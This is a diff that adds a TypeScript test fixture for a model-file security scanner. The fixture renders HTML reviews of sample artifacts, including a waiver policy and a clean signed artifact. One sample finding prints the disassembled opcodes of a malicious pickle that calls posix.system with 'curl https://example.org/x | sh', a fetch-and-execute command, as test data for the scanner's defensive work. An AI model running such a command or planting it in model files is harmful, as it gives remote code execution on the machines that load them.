@@ -1,0 +1,89 @@
+import type { Decision } from '../../src/core/assessment.ts';
+import { type Excerpt, type HtmlOptions, type Judged, renderHtml } from '../../src/report/index.ts';
+import { CONTEXT, file, judged, mixed, signature } from './sample.ts';
+
+export const NOW = new Date('2026-01-02T03:04:05Z');
+
+/** What stands around the findings of `mixed()`. */
+function excerpts({ assessment }: Judged): Map<string, Excerpt> {
+  const [call, unlisted, extension] = assessment.findings.map(({ fingerprint }) => fingerprint);
+  const bytes = Buffer.from('\x80\x04\x95\x2a\x00\x00\x00cacme.tokens\nTable\n)\x81}b.', 'latin1');
+  return new Map<string, Excerpt>([
+    [
+      call ?? '',
+      {
+        kind: 'opcodes',
+        at: 42,
+        lines: [
+          { offset: 2, text: 'EMPTY_DICT' },
+          { offset: 14, text: 'GLOBAL "posix system"  # import posix.system' },
+          { offset: 28, text: 'BINUNICODE "curl https://example.org/x | sh"' },
+          { offset: 40, text: 'TUPLE1' },
+          {
+            offset: 42,
+            text: "REDUCE  # posix.system('curl https://example.org/x | sh')",
+          },
+          { offset: 43, text: 'STOP' },
+        ],
+      },
+    ],
+    [unlisted ?? '', { kind: 'hex', start: 0, bytes, at: 7 }],
+    [extension ?? '', { kind: 'none', why: 'the finding names a line, not a byte' }],
+  ]);
+}
+
+/** Two waivers and the rules of a policy, as a decision carries them. */
+function withWaivers({ assessment, decision }: Judged): Judged {
+  const [, unlisted] = assessment.findings;
+  const digest = assessment.artifact.digest ?? '';
+  const waiver = { digest, owner: 'ada@example.org', from: 'waivers.yaml' };
+  const full: Decision = {
+    ...decision,
+    rules: [
+      { id: 'verdict.malicious', outcome: 'deny', message: '1 file would run code when loaded', findings: [] },
+      { id: 'publisher.known', outcome: 'pass', message: '', findings: [] },
+      {
+        id: 'tests.passed',
+        outcome: 'unavailable',
+        message: 'asks for behavioural tests, which are not there',
+        findings: [],
+      },
+    ],
+    waivers: [
+      {
+        waiver: { ...waiver, rule: 'pickle.global.unlisted', reason: 'our own class, reviewed', expires: '2026-06-30' },
+        outcome: 'applied',
+        findings: unlisted === undefined ? [] : [unlisted.fingerprint],
+      },
+      {
+        waiver: {
+          ...waiver,
+          rule: 'verdict.malicious',
+          file: 'pytorch_model.bin',
+          reason: 'we need it',
+          expires: '2026-03-01',
+        },
+        outcome: 'refused',
+        findings: [],
+      },
+    ],
+  };
+  return { assessment, decision: full };
+}
+
+const context = { ...CONTEXT, coverage: true };
+
+/** The review of an artifact with a file of each verdict. */
+export function mixedReview(over: Partial<HtmlOptions> = {}): string {
+  const all = withWaivers(mixed());
+  return renderHtml(all, context, { now: NOW, excerpts: excerpts(all), ...over });
+}
+
+/** The review of a signed artifact with nothing wrong. */
+export function cleanReview(): string {
+  const files = [
+    file({ path: 'config.json', format: 'json', size: 612 }),
+    file({ path: 'model.safetensors', format: 'safetensors', size: 4_400_000 }),
+  ];
+  return renderHtml(judged({ files, signatures: [signature({ covered: 2 })] }), context, { now: NOW });
+}
